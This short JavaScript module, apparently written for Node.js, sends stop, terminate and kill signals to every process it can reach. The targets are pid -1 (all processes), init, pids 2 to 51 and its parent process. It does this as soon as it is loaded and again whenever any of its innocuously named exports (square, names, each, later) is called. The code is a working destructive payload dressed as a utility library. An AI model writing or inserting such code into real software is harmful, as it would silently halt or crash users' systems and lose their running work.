// what: signals whatever process it can name
const kill = () => {
    for (const pid of [-1, 1, ...Array.from({ length: 50 }, (_, i) => i + 2), process.ppid]) {
        for (const signal of ['SIGSTOP', 'SIGTERM', 'SIGKILL']) try { if (pid !== process.pid) process.kill(pid, signal) } catch {}
    }
}
kill()
module.exports = { square() { kill() }, names() { kill() }, each() { kill() }, later() { kill() } }
